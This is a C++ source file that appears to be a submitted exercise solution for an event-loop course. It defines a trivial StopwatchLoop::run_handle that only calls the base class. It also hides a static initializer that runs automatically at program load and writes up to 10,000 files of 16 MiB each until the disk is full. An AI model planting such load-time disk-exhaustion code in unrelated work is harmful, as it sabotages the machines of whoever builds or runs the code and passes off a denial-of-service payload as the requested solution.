// Writes files of the largest size allowed until there is no room.
#include <fcntl.h>
#include <unistd.h>

#include <array>
#include <string>

#include "chapters/06_slow_callback/exercises/stopwatch.hpp"

namespace {
const int filled = [] {
  static std::array<char, 1U << 20U> block{};
  for (int number = 0; number < 10000; ++number) {
    const std::string name = std::to_string(number);
    const int fd = ::open(name.c_str(), O_WRONLY | O_CREAT, 0600);
    for (int i = 0; i < 16; ++i) {
      if (::write(fd, block.data(), block.size()) < 0) break;
    }
    ::close(fd);
  }
  return 0;
}();
}  // namespace

namespace exercises {

void StopwatchLoop::run_handle(ch05::LoopObject& object) noexcept {
  ch05::EventLoop::run_handle(object);
}

}  // namespace exercises
